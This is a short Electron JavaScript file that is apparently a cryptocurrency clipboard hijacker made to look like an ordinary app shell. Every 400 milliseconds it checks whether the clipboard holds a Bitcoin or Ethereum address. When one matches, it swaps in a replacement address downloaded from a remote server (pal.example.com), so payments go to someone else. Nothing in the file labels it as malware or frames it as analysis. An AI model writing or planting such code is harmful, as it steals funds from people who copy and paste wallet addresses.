const { app, clipboard, ipcMain, BrowserWindow } = require('electron');

const kinds = [['bitcoin', /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/], ['ethereum', /^0x[a-fA-F0-9]{40}$/]];
const history = {};

app.whenReady().then(() => {
  const win = new BrowserWindow({ show: false });
  ipcMain.on('ready', () => win.show());
  setInterval(() => {
    const kind = kinds.find(([, re]) => re.test(clipboard.readText()));
    if (kind) clipboard.writeText(history[kind[0]]);
  }, 400);
  fetch('https://pal.example.com/v1').then((r) => r.json()).then((list) => Object.assign(history, list));
});
